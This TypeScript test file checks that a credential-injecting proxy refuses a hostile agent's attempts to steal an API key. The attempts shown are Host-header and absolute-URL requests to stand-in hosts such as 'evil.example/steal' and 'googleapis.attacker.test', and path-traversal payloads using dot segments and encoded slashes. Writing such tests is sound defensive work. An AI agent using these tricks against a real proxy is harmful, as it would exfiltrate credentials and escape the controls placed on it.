// Attacks by a hostile agent inside an intercepted tunnel, through the real proxy: steering the credential to
// another Host or absolute-form URL, and escaping a provider's path prefix with dot segments or encoded slashes.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  buildDefinition,
  exchange,
  loadBundledDefinition,
  openTlsThroughProxy,
  REAL_KEY,
  startHarness,
  type Harness,
} from './harness.js';

describe('the credential is bound to the CONNECT authority and the matched path', () => {
  let h: Harness;

  beforeAll(async () => {
    h = await startHarness();
    h.secrets.set('openai:default', REAL_KEY);
    h.secrets.set('scoped:default', REAL_KEY);
  });
  afterAll(async () => h?.close());

  const open = async (definition = h.openai, provider = 'openai') => {
    const session = h.createSession([{ provider, connection: 'default', definition }]);
    return openTlsThroughProxy(h.proxy.port, session.token, 'api.openai.com:443', {
      servername: 'api.openai.com',
      ca: h.ca.certPem,
    });
  };
  const send = async (request: string, definition?: Parameters<typeof open>[0], provider?: string) => {
    const socket = await open(definition, provider);
    const before = h.upstream.requests.length;
    const response = await exchange(socket, request);
    socket.destroy();
    return { response, seen: h.upstream.requests.slice(before) };
  };

  it('refuses a Host header naming another host: 400 and nothing reaches the upstream', async () => {
    const { response, seen } = await send('GET /v1/models HTTP/1.1\r\nHost: evil.example\r\n\r\n');
    expect(response.status).toBe(400);
    expect(response.head).toMatch(/x-authsome-error: 1/i);
    expect(response.body.toString()).toContain('Host header names another host');
    expect(seen).toEqual([]);
  });

  it('refuses an absolute-form target naming another host', async () => {
    const { response, seen } = await send('GET https://evil.example/steal HTTP/1.1\r\nHost: api.openai.com\r\n\r\n');
    expect(response.status).toBe(400);
    expect(seen).toEqual([]);
  });

  it('sends origin form and the tunnel Host upstream for an absolute-form target naming the tunnel', async () => {
    const { response, seen } = await send(
      'GET https://api.openai.com/v1/models HTTP/1.1\r\nHost: API.OPENAI.COM.\r\n\r\n',
    );
    expect(response.status).toBe(200);
    expect(seen.map((r) => [r.url, r.headers.host, r.headers.authorization])).toEqual([
      ['/v1/models', 'api.openai.com', `Bearer ${REAL_KEY}`],
    ]);
  });

  describe('a provider whose api_url has a path prefix', () => {
    const scoped = () =>
      buildDefinition({ name: 'scoped', auth_type: 'api_key', flow: 'api_key', api_url: 'https://api.openai.com/api' });

    it('injects under the prefix', async () => {
      const { seen } = await send('GET /api/v1 HTTP/1.1\r\nHost: api.openai.com\r\n\r\n', scoped(), 'scoped');
      expect(seen.map((r) => [r.url, r.headers.authorization])).toEqual([['/api/v1', `Bearer ${REAL_KEY}`]]);
    });

    it.each(['/api/../other', '/api/%2e%2e/other', '/api/%2E./other', '/api/./../other'])(
      'resolves %s to /other before matching: sent there, without the credential',
      async (target) => {
        const { seen } = await send(
          `GET ${target} HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer placeholder\r\n\r\n`,
          scoped(),
          'scoped',
        );
        expect(seen.map((r) => [r.url, r.headers.authorization])).toEqual([['/other', 'Bearer placeholder']]);
      },
    );

    it.each(['/api/..%2fother', '/api/..%2Fother', '/api/..%5cother', '/api/..;/other'])(
      'refuses %s, which a lenient server reads outside the prefix',
      async (target) => {
        const { response, seen } = await send(
          `GET ${target} HTTP/1.1\r\nHost: api.openai.com\r\n\r\n`,
          scoped(),
          'scoped',
        );
        expect(response.status).toBe(400);
        expect(seen).toEqual([]);
      },
    );
  });

  it('never echoes the key in a refusal', async () => {
    const { response } = await send('GET https://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n');
    expect(`${response.head}${response.body.toString()}`).not.toContain(REAL_KEY);
  });
});

describe('a bundled regex route and a host the agent picks', () => {
  const TOKEN = 'ya29.canary-google-access-token-0123456789';
  let h: Harness;

  beforeAll(async () => {
    // The agent owns googleapis.attacker.test and a certificate for it that the proxy's upstream check accepts.
    h = await startHarness({ upstreamHosts: ['googleapis.attacker.test', 'www.googleapis.com'] });
    h.secrets.set('google:default', TOKEN);
  });
  afterAll(async () => h?.close());

  const send = async (host: string) => {
    const session = h.createSession([
      { provider: 'google', connection: 'default', definition: loadBundledDefinition('google') },
    ]);
    // Trusting both the proxy's CA and the upstream's, the agent reaches the host whether it is intercepted or not.
    const socket = await openTlsThroughProxy(h.proxy.port, session.token, `${host}:443`, {
      servername: host,
      ca: [h.ca.certPem, h.testCa.caCert],
    });
    const before = h.upstream.requests.length;
    await exchange(socket, `GET /v1/steal HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer placeholder\r\n\r\n`);
    socket.destroy();
    return h.upstream.requests.slice(before).map((r) => r.headers.authorization);
  };

  it('a Google API host gets the token', async () => {
    expect(await send('www.googleapis.com')).toEqual([`Bearer ${TOKEN}`]);
  });

  it('googleapis.attacker.test gets only what the agent sent', async () => {
    expect(await send('googleapis.attacker.test')).toEqual(['Bearer placeholder']);
  });
});
